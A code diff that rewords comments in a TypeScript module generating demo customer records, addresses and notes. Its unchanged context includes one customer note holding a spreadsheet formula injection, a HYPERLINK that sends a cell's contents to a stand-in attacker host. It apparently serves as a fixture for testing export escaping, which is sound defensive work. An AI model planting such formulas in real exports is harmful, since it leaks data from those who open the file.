@@ -8,7 +8,7 @@ function platformIdOf(index: number): string {
   return String(8_104_480_300_000 + index * 37);
 }
 
-/** The id of somebody's row. Two accounts may have one address, so the name is part of it. */
+/** The id of a person's row. Two accounts may share an address, so the name is part of it. */
 export function customerIdOf([firstName, , mailbox]: Person): string {
   return demoId(`customer ${mailbox} ${firstName}`);
 }
@@ -75,12 +75,12 @@ export function demoCustomers(storeId: string, now: Date) {
   return { customers, addresses, consents };
 }
 
-/** First and last name as one. */
+/** First and last name together. */
 export function nameOf([firstName, lastName]: Person): string {
   return `${firstName} ${lastName}`;
 }
 
-/** Where somebody lives, by the names of an address's fields. */
+/** A person's home address, by the names of an address's fields. */
 export function placeOf([, , , country, city, postalCode, line1, phone]: Person) {
   return { line1, city, postalCode: postalCode || null, country, phone };
 }
@@ -107,7 +107,7 @@ function searchTextOf(person: Person, more: { platformId?: string; tags?: string
   return customerSearchText({ firstName, lastName, email: addressOf(person), phone, ...more }, [placeOf(person)]);
 }
 
-// One begins like a formula, as a spreadsheet would run it.
+// One starts like a formula that a spreadsheet would run.
 const NOTES: Record<string, string> = {
   "formula.sumner": `=HYPERLINK("https://attacker.example/?"&A1,"Refund here")`,
   "amelia.hartley": "Rings before deliveries.\nPrefers the back door.",
